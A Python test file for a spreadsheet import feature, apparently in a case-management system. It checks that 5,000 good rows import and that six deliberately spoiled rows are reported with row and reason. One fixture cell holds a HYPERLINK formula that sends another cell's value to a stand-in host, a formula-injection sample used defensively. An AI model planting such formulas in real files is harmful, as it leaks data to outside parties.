"""The sheet as it comes: a wrong code, a number twice, merged cells, a formula, and 5,000 good rows."""

from __future__ import annotations

import psycopg

from gewu.imports import left, runs
from gewu.imports.problems import text as said
from gewu.ledger.verify import verify_all
from imports import sheets
from support.district import district_id

GOOD = 5000


def _spoil(sheet: object) -> None:
    sheet["E4"] = "99999"  # a wrong code
    sheet["A6"] = sheets.number(2)  # the number of row 4
    sheet.merge_cells("B8:B9")
    sheet["B11"] = '=HYPERLINK("http://example.invalid/?"&A11,"open")'
    sheet["J12"] = "=1+1"


def test_good_rows_go_in_and_bad_ones_are_told_with_row_and_reason(app_connection: psycopg.Connection) -> None:
    data = sheets.book([sheets.row(n) for n in range(1, GOOD + 1 + 6)], _spoil)
    run = sheets.looked(data)
    assert run.status == runs.CHECKED
    assert run.preview["rows"] == GOOD + 6
    assert (run.preview["good"], run.preview["bad"]) == (GOOD, 6)
    assert run.preview["unknown"] == {"99999": 1}
    assert runs.confirm(run, {}, "en")
    assert sheets.worker.step("test")
    run = sheets.found(run.id)
    assert (run.status, run.created, run.bad, run.known) == (runs.DONE, GOOD, 6, 0)
    told = {one.row: [said(problem, "en") for problem in one.problems] for one in left.faults(run)}
    assert set(told) == {4, 6, 8, 9, 11, 12}
    assert told[4][0].startswith("问题分类: 99999 is not a category")
    assert "twice" in told[6][0]
    assert "first in row 4" in told[6][0]
    assert "B8:B9" in told[8][0]
    assert "B8:B9" in told[9][0]
    assert told[11][0].startswith("诉求内容: holds a formula")
    assert told[12][0].startswith("联系电话: holds a formula")
    row = app_connection.execute(
        "SELECT count(*), count(DISTINCT number), count(DISTINCT outside_number) FROM cases_case"
    ).fetchone()
    assert row == (GOOD, GOOD, GOOD)
    row = app_connection.execute(
        "SELECT count(*) FROM ledger_outgoing WHERE topic = 'notice' AND payload->>'message' = 'imported'"
    ).fetchone()
    assert row == (1,)
    assert verify_all(district_id()).ok
